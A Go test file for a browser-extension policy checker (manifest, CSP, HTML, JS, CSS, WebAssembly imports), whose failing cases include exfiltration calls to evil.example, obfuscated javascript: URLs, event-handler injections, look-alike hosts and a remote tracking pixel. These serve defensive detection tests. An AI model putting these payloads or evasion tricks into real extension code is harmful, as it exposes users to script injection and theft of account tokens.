//go:build !js

// It reads the source tree and builds packages on disk; it has nothing to
// prove inside a browser.

package policy_test

import (
	"encoding/binary"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/epicsessionkiller/epic-session-killer/wasm/internal/policy"
)

// Each checker's table holds files that must pass and files that must
// fail, each failing one with a part of the problem it must be reported
// with, so a rule that stopped working would show.

// goodManifest is a manifest that passes, which the manifest cases
// change one thing of.
const goodManifest = `{
  "manifest_version": 3,
  "name": "Session Killer for Epic Games",
  "version": "0.1.0",
  "description": "Signs your Epic Games account out of its other sessions.",
  "icons": {"16": "extension/icons/icon-16.png"},
  "action": {"default_popup": "popup.html"},
  "permissions": ["storage"],
  "optional_permissions": ["cookies"],
  "host_permissions": ["https://account-public-service-prod.ol.epicgames.com/*"],
  "optional_host_permissions": ["https://www.epicgames.com/*", "https://store.epicgames.com/*"],
  "content_security_policy": {"extension_pages": "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'"},
  "browser_specific_settings": {"gecko": {
    "id": "epic-session-killer@epicsessionkiller.github.io",
    "strict_min_version": "142.0",
    "data_collection_permissions": {"required": ["authenticationInfo"]}
  }}
}`

func TestManifest(t *testing.T) {
	cases := []struct {
		name string
		edit func(m map[string]any)
		// want is part of a problem that must be reported; "" means none may be.
		want string
	}{
		{"the good manifest", func(map[string]any) {}, ""},
		{"no optional features", func(m map[string]any) {
			delete(m, "optional_permissions")
			delete(m, "optional_host_permissions")
		}, ""},
		{"the Chrome variant, without Firefox settings", func(m map[string]any) { delete(m, "browser_specific_settings") }, ""},

		{"an extra permission", func(m map[string]any) { m["permissions"] = []any{"storage", "tabs"} }, `permissions has "tabs"`},
		{"a repeated permission", func(m map[string]any) { m["permissions"] = []any{"storage", "storage"} }, `permissions has "storage" twice`},
		{"<all_urls> as a permission", func(m map[string]any) { m["permissions"] = []any{"storage", "<all_urls>"} }, `permissions has "<all_urls>"`},
		{"an extra optional permission", func(m map[string]any) { m["optional_permissions"] = []any{"cookies", "history"} }, `optional_permissions has "history"`},
		{"a required optional permission", func(m map[string]any) { m["permissions"] = []any{"storage", "cookies"} }, `permissions has "cookies"`},
		{"<all_urls> as a host", func(m map[string]any) {
			m["host_permissions"] = []any{"https://account-public-service-prod.ol.epicgames.com/*", "<all_urls>"}
		}, `host_permissions has "<all_urls>"`},
		{"a wider Epic host", func(m map[string]any) { m["host_permissions"] = []any{"https://*.epicgames.com/*"} }, `host_permissions has "https://*.epicgames.com/*"`},
		{"the account service missing", func(m map[string]any) { m["host_permissions"] = []any{} }, `host_permissions lacks "https://account-public-service-prod.ol.epicgames.com/*"`},
		{"the sign-in hosts made required", func(m map[string]any) {
			m["host_permissions"] = []any{"https://account-public-service-prod.ol.epicgames.com/*", "https://www.epicgames.com/*"}
		}, `host_permissions has "https://www.epicgames.com/*"`},
		{"an extra optional host", func(m map[string]any) {
			m["optional_host_permissions"] = []any{"https://www.epicgames.com/*", "https://evil.example/*"}
		}, `optional_host_permissions has "https://evil.example/*"`},
		{"permissions not a list", func(m map[string]any) { m["permissions"] = "storage" }, "permissions is not a list of strings"},

		{"content scripts", func(m map[string]any) { m["content_scripts"] = []any{} }, `key "content_scripts"`},
		{"a background worker", func(m map[string]any) { m["background"] = map[string]any{"service_worker": "bg.js"} }, `key "background"`},
		{"web-accessible resources", func(m map[string]any) { m["web_accessible_resources"] = []any{} }, `key "web_accessible_resources"`},
		{"externally connectable", func(m map[string]any) { m["externally_connectable"] = map[string]any{} }, `key "externally_connectable"`},
		{"a sandbox", func(m map[string]any) { m["sandbox"] = map[string]any{"pages": []any{"x.html"}} }, `key "sandbox"`},
		{"an update URL", func(m map[string]any) { m["update_url"] = "https://evil.example/updates.xml" }, `key "update_url"`},
		{"manifest version 2", func(m map[string]any) { m["manifest_version"] = 2 }, "manifest_version is 2, want 3"},
		{"no manifest version", func(m map[string]any) { delete(m, "manifest_version") }, "manifest_version is missing"},

		{"a sandbox CSP", func(m map[string]any) {
			m["content_security_policy"] = map[string]any{"extension_pages": "script-src 'self'", "sandbox": "sandbox allow-scripts"}
		}, `content_security_policy has key "sandbox"`},
		{"an MV2 CSP string", func(m map[string]any) { m["content_security_policy"] = "script-src 'self'" }, "content_security_policy is not an object"},
		{"'unsafe-eval' in the CSP", func(m map[string]any) {
			m["content_security_policy"] = map[string]any{"extension_pages": "script-src 'self' 'unsafe-eval'"}
		}, "extension_pages: script-src allows 'unsafe-eval'"},

		{"a Firefox update URL", func(m map[string]any) {
			m["browser_specific_settings"] = map[string]any{"gecko": map[string]any{"id": "x@y", "update_url": "https://evil.example/u.json"}}
		}, `gecko has key "update_url"`},
		{"a second browser block", func(m map[string]any) {
			m["browser_specific_settings"] = map[string]any{"gecko": map[string]any{"id": "x@y"}, "safari": map[string]any{}}
		}, `browser_specific_settings has key "safari"`},
		{"no data collected, though the token is sent to Epic", func(m map[string]any) {
			m["browser_specific_settings"] = map[string]any{"gecko": map[string]any{
				"id": "x@y", "data_collection_permissions": map[string]any{"required": []any{"none"}},
			}}
		}, "data_collection_permissions is"},
		{"more data declared than is sent", func(m map[string]any) {
			m["browser_specific_settings"] = map[string]any{"gecko": map[string]any{
				"id": "x@y", "data_collection_permissions": map[string]any{"required": []any{"authenticationInfo", "browsingActivity"}},
			}}
		}, "data_collection_permissions is"},
		{"the token's collection optional", func(m map[string]any) {
			m["browser_specific_settings"] = map[string]any{"gecko": map[string]any{
				"id": "x@y", "data_collection_permissions": map[string]any{"required": []any{}, "optional": []any{"authenticationInfo"}},
			}}
		}, "data_collection_permissions is"},
		{"data consent left out", func(m map[string]any) {
			m["browser_specific_settings"] = map[string]any{"gecko": map[string]any{"id": "x@y"}}
		}, "data_collection_permissions is missing"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var m map[string]any
			require.NoError(t, json.Unmarshal([]byte(goodManifest), &m))
			tc.edit(m)
			raw, err := json.Marshal(m)
			require.NoError(t, err)

			problems := policy.Manifest(raw)

			assertProblems(t, problems, tc.want)
		})
	}
}

func TestCSP(t *testing.T) {
	cases := []struct {
		name, policy string
		want         string // "" means no problem may be reported
	}{
		{"what ships", "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'", ""},
		{"tighter", "script-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'", ""},
		{"keywords in capitals", "SCRIPT-SRC 'SELF' 'WASM-UNSAFE-EVAL'", ""},
		{"connect-src to Epic", "script-src 'self'; connect-src 'self' https://account-public-service-prod.ol.epicgames.com https://www.epicgames.com/", ""},
		{"default-src standing in for script-src", "default-src 'self' 'wasm-unsafe-eval'", ""},
		{"default-src with Epic besides script-src", "script-src 'self'; default-src 'self' https://store.epicgames.com", ""},
		{"nothing", "", ""},

		{"'unsafe-eval'", "script-src 'self' 'unsafe-eval'", "script-src allows 'unsafe-eval'"},
		{"'unsafe-inline'", "script-src 'self' 'unsafe-inline'", "script-src allows 'unsafe-inline'"},
		{"a remote script-src", "script-src 'self' https://cdn.example", "script-src allows https://cdn.example"},
		{"an Epic host in script-src", "script-src 'self' https://www.epicgames.com", "script-src allows https://www.epicgames.com"},
		{"a wildcard", "script-src *", "script-src allows *"},
		{"a scheme", "script-src 'self' data:", "script-src allows data:"},
		{"a hash", "script-src 'self' 'sha256-AAAA'", "script-src allows 'sha256-AAAA'"},
		{"a nonce", "script-src 'self' 'nonce-abc'", "script-src allows 'nonce-abc'"},
		{"'strict-dynamic'", "script-src 'self' 'strict-dynamic'", "script-src allows 'strict-dynamic'"},
		{"remote scripts through script-src-elem", "script-src 'self'; script-src-elem https://cdn.example", "script-src-elem allows https://cdn.example"},
		{"a remote default-src standing in for script-src", "default-src 'self' https://evil.example", "default-src allows https://evil.example"},
		{"an Epic default-src standing in for script-src", "default-src 'self' https://www.epicgames.com", "default-src allows https://www.epicgames.com"},
		{"connect-src to another host", "script-src 'self'; connect-src 'self' https://evil.example", "connect-src allows https://evil.example"},
		{"connect-src to any https", "script-src 'self'; connect-src https:", "connect-src allows https:"},
		{"connect-src to an Epic look-alike", "script-src 'self'; connect-src https://www.epicgames.com.evil.example", "connect-src allows https://www.epicgames.com.evil.example"},
		{"object-src anywhere", "script-src 'self'; object-src *", "object-src allows *"},
		{"reports sent away", "script-src 'self'; report-uri https://evil.example/r", "directive report-uri is not in the allow-list"},
		{"a sandbox directive", "script-src 'self'; sandbox allow-scripts", "directive sandbox is not in the allow-list"},
		{"a repeated directive", "script-src 'self'; script-src 'self' https://cdn.example", "script-src appears twice"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			assertProblems(t, policy.CSP(tc.policy), tc.want)
		})
	}
}

func TestHTML(t *testing.T) {
	cases := []struct {
		name, html string
		want       string // "" means no problem may be reported
	}{
		{"package scripts", `<!doctype html><html><head><meta charset="utf-8">
<script src="extension/wasm_exec.js" defer></script>
<script src='/extension/popup.js'></script></head>
<body><input id=token disabled><a href="https://www.epicgames.com/id/login" target="_blank">Sign in</a>
<!-- <script>alert(1)</script> is only a comment --></body></html>`, ""},
		{"text that mentions on= and javascript:", `<p data-x="x">use onclick=, not javascript: URLs; 1 < 2</p>`, ""},

		{"an inline script", `<script>alert(1)</script>`, "line 1: <script> is an inline script"},
		{"a script with src and content", `<script src="a.js">alert(1)</script>`, "line 1: <script> has inline content"},
		{"an inline script in capitals", "<p>\n<SCRIPT type=module>import('x')</SCRIPT>", "line 2: <script> is an inline script"},
		{"an onclick attribute", `<button type="button" onclick="go()">Go</button>`, "<button> has event-handler attribute onclick"},
		{"an unquoted handler in capitals", `<body ONLOAD=go()>`, "<body> has event-handler attribute onload"},
		{"a handler after a slash", `<img/src="x.png"/onerror="go()">`, "<img> has event-handler attribute onerror"},
		{"a javascript: href", `<a href="javascript:go()">Go</a>`, "<a> has a javascript: URL in href"},
		{"a javascript: URL with spaces and capitals", `<a href="  JavaScript:go()">Go</a>`, "javascript: URL in href"},
		{"a javascript: URL split by a tab", "<a href=\"java\tscript:go()\">Go</a>", "javascript: URL in href"},
		{"an entity-encoded javascript: URL", `<a href="&#106;avascript:go()">Go</a>`, "javascript: URL in href"},
		{"a javascript: form action", `<form action='javascript:go()'></form>`, "javascript: URL in action"},
		{"a remote script", `<script src="https://cdn.example/x.js"></script>`, `loads "https://cdn.example/x.js"`},
		{"a protocol-relative script", `<script src="//cdn.example/x.js"></script>`, `loads "//cdn.example/x.js"`},
		{"a backslash protocol-relative script", `<script src="\\cdn.example/x.js"></script>`, `which is not a file of the package`},
		{"a data: script", `<script src="data:text/javascript,alert(1)"></script>`, `loads "data:text/javascript,alert(1)"`},
		{"a blob: script", `<script src="blob:chrome-extension://x/y"></script>`, `loads "blob:chrome-extension://x/y"`},
		{"an empty script src", `<script src=""></script>`, `loads ""`},
		{"a base element", `<base href="https://cdn.example/"><script src="x.js"></script>`, "<base> is not allowed"},
		{"an iframe", `<iframe src="https://evil.example"></iframe>`, "<iframe> is not allowed"},
		{"a script never closed", `<script src="a.js">`, "cannot scan: line 1: <script> is never closed"},
		{"an attribute never closed", `<script src="a.js></script>`, "cannot scan"},
		{"a tag never closed", `<p>text<a href="x"`, "cannot scan: line 1: a tag is never closed"},
		{"a comment never closed", "<p>text\n<!-- <p>", "cannot scan: line 2: a comment is never closed"},
		{"content after a self-closing script", `<script src="a.js"/>alert(1)</script>`, "line 1: <script> has inline content"},
		{"an inline script inside noscript", `<noscript><script>alert(1)</script></noscript>`, "<script> is an inline script"},
		{"a handler inside a textarea's neighbour", `<textarea><b onclick=x></textarea><i onclick=go()>`, "<i> has event-handler attribute onclick"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			assertProblems(t, policy.HTML([]byte(tc.html)), tc.want)
		})
	}
}

func TestJS(t *testing.T) {
	cases := []struct {
		name, js string
		want     string // "" means no problem may be reported
	}{
		{"ordinary code", `const go = new Go(); setTimeout(() => go.run(), 10); el.textContent = "x";`, ""},
		{"prose in comments", "// eval(x), new Function and https://github.com/golang/go/issues/28975\n/* document.write(x) */ f();", ""},
		{"rules spelled inside strings", `console.log("eval(x) or el.innerHTML = y");`, ""},
		{"an Epic URL", `const base = 'https://account-public-service-prod.ol.epicgames.com';`, ""},
		{"a never-resolving cache key", `const key = 'https://main-wasm.invalid/' + v;`, ""},
		{"a division and a regular expression", "const a = b / 2 / c; const re = /https:\\/\\/x[/]/g; const t = `a${b / 2}c`;", ""},
		{"innerHTML read and compared", `if (el.innerHTML === "") { n = el.outerHTML; }`, ""},
		{"an import object", `WebAssembly.instantiate(m, go.importObject);`, ""},
		{"an Epic URL with a template path", "fetch(`https://www.epicgames.com${path}`);", ""},
		{"a URL in a comment after code", "f(); // see https://example.com/x", ""},

		{"eval(", `eval("1 + 1");`, "line 1: eval("},
		{"eval( through a member", `window.eval (code);`, "eval("},
		{"new Function", `const f = new Function("return 1");`, "new Function"},
		{"Function(", `const f = Function("return 1");`, "Function("},
		{"setTimeout with a string", `setTimeout("go()", 10);`, "setTimeout/setInterval with a string"},
		{"setInterval with a template", "setInterval(`go()`, 10);", "setTimeout/setInterval with a string"},
		{"importScripts(", `importScripts('x.js');`, "importScripts("},
		{"dynamic import(", `const m = await import('./x.js');`, "dynamic import("},
		{"document.write", `document.write('<p>');`, "document.write"},
		{"document.writeln", `document.writeln('<p>');`, "document.write"},
		{"innerHTML assignment", `el.innerHTML = text;`, "innerHTML/outerHTML assignment"},
		{"innerHTML appended", `el.innerHTML += text;`, "innerHTML/outerHTML assignment"},
		{"outerHTML assignment", `el.outerHTML=text;`, "innerHTML/outerHTML assignment"},
		{"insertAdjacentHTML", `el.insertAdjacentHTML('beforeend', text);`, "insertAdjacentHTML"},
		{"code after a template expression", "const s = `${a}`; eval(s);", "eval("},
		{"code after a nested template", "const s = `a${`b${c}` + '}'}d`; eval(s);", "eval("},
		{"code after a regular expression holding a quote", `const re = /"/; eval(x); const s = "";`, "eval("},
		{"code after a regular expression holding a comment", `const re = /[/]*/; eval(x);`, "eval("},
		{"code after a string holding a comment", `const u = "a//b"; eval(x);`, "eval("},
		{"code after a comment holding a quote", "/* it's */ eval(x);", "eval("},
		{"an unterminated string", `const s = "abc`, "cannot scan: line 1: unterminated string"},
		{"an unterminated template", "const s = `abc", "cannot scan: line 1: unterminated template literal"},
		{"an unterminated regular expression", "const re = /abc\n;", "cannot scan: line 1: unterminated regular expression"},
		{"a remote URL", `fetch("https://evil.example/collect");`, "URL https://evil.example is not to an Epic host"},
		{"a plain http URL", `fetch('http://www.epicgames.com/');`, "URL http://www.epicgames.com is not to an Epic host"},
		{"an Epic look-alike", `fetch('https://www.epicgames.com.evil.example/');`, "URL https://www.epicgames.com.evil.example is not"},
		{"a URL in a template", "fetch(`https://evil.example/${id}`);", "URL https://evil.example is not"},
		{"a URL built from a variable host", "fetch(`https://${host}/x`);", "URL https:// is not"},
		{"a line number", "const a = 1;\n\nfetch('https://evil.example');", "line 3: URL https://evil.example"},
		{"an unterminated comment", "f(); /* eval(x)", "cannot scan"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			assertProblems(t, policy.JS([]byte(tc.js)), tc.want)
		})
	}
}

func TestCSS(t *testing.T) {
	cases := []struct {
		name, css string
		want      string // "" means no problem may be reported
	}{
		{"plain rules", "main { width: 400px; }\n@media (prefers-color-scheme: dark) { body { color: #eee; } }", ""},
		{"a package image", `.x { background: url("extension/icons/icon-16.png"); }`, ""},
		{"a data: image", `.x { background: url( 'DATA:image/png;base64,AAAA' ); }`, ""},

		{"an @import", `@import "https://fonts.example/a.css";`, "line 1: @import"},
		{"a package @import", `@import url(other.css);`, "@import"},
		{"a remote image", "\n.x { background: url(https://evil.example/pixel.png); }", "line 2: .x { background: url(https://evil.example/pixel.png); }"},
		{"a protocol-relative font", `@font-face { src: url("//fonts.example/f.woff2"); }`, "loads from outside the package"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			assertProblems(t, policy.CSS([]byte(tc.css)), tc.want)
		})
	}
}

func TestWasmImports(t *testing.T) {
	fn := func(module, name string) wasmImport {
		return wasmImport{module, name, []byte{0, 0}}
	}
	cases := []struct {
		name string
		wasm []byte
		want string // "" means no problem may be reported
	}{
		{"Go's imports", wasmModule(fn("gojs", "runtime.wasmExit"), fn("gojs", "syscall/js.valueGet")), ""},
		{"no imports", wasmModule(), ""},

		{"a function from env", wasmModule(fn("gojs", "runtime.wasmExit"), fn("env", "fetch")), `imports function "env"."fetch"`},
		{"memory from env", wasmModule(wasmImport{"env", "memory", []byte{2, 0, 1}}), `imports memory "env"."memory"`},
		{"a table from env", wasmModule(wasmImport{"env", "table", []byte{1, 0x70, 1, 1, 2}}), `imports table "env"."table"`},
		{"a global from env", wasmModule(wasmImport{"env", "g", []byte{3, 0x7f, 0}}), `imports global "env"."g"`},
		{"Go's test-only module", wasmModule(fn("_gotest", "add")), `imports function "_gotest"."add"`},
		{"a long name length", wasmModule(fn(strings.Repeat("e", 200), "f")), `imports function "` + strings.Repeat("e", 200)},

		{"a function the glue lacks", wasmModule(fn("gojs", "runtime.wasmExit"), fn("gojs", "syscall/js.valueCall")), `imports function "gojs"."syscall/js.valueCall", which wasm_exec.js does not provide`},
		{"memory from gojs", wasmModule(wasmImport{"gojs", "runtime.wasmExit", []byte{2, 0, 1}}), `imports memory "gojs"."runtime.wasmExit"; wasm_exec.js provides only functions`},

		{"not wasm", []byte("<!doctype html>"), "cannot read imports: not a WebAssembly module"},
		{"another version", []byte("\x00asm\x02\x00\x00\x00"), "cannot read imports: not a WebAssembly module"},
		{"a truncated import section", append([]byte("\x00asm\x01\x00\x00\x00"), 2, 10, 1), "cannot read imports: section 2: the module ends too soon"},
		{"an unknown import kind", wasmModule(wasmImport{"gojs", "x", []byte{9}}), "unknown kind"},
		{"two import sections", append(wasmModule(fn("gojs", "a")), wasmSection(2, []byte{0})...), "section 2 appears twice"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			assertProblems(t, policy.WasmImports(tc.wasm, []byte(glue)), tc.want)
		})
	}
}

// glue stands in for wasm_exec.js, which provides Go's imports in this
// form.
const glue = `this.importObject = { _gotest: { add: (x, y) => x + y }, gojs: {
	"runtime.wasmExit": (sp) => { this.exited = true; },
	"syscall/js.valueGet": (sp) => { sp >>>= 0; },
} };`

// wasmImport is an import for wasmModule; desc is the kind
// byte and its description.
type wasmImport struct {
	module, name string
	desc         []byte
}

// wasmModule builds a binary with one function type, () -> (), and the
// given imports.
func wasmModule(imports ...wasmImport) []byte {
	b := []byte("\x00asm\x01\x00\x00\x00")
	b = append(b, wasmSection(1, []byte{1, 0x60, 0, 0})...)
	if len(imports) == 0 {
		return b
	}
	sec := binary.AppendUvarint(nil, uint64(len(imports)))
	for _, imp := range imports {
		for _, s := range []string{imp.module, imp.name} {
			sec = binary.AppendUvarint(sec, uint64(len(s)))
			sec = append(sec, s...)
		}
		sec = append(sec, imp.desc...)
	}
	return append(b, wasmSection(2, sec)...)
}

// wasmSection frames a section; Uvarint is LEB128.
func wasmSection(id byte, content []byte) []byte {
	return append(binary.AppendUvarint([]byte{id}, uint64(len(content))), content...)
}

// assertProblems requires no problems when want is empty, else one
// problem containing want.
func assertProblems(t *testing.T, problems []string, want string) {
	t.Helper()
	if want == "" {
		assert.Empty(t, problems)
		return
	}
	for _, p := range problems {
		if strings.Contains(p, want) {
			return
		}
	}
	assert.Failf(t, "problem not reported", "want a problem containing %q, got %q", want, problems)
}
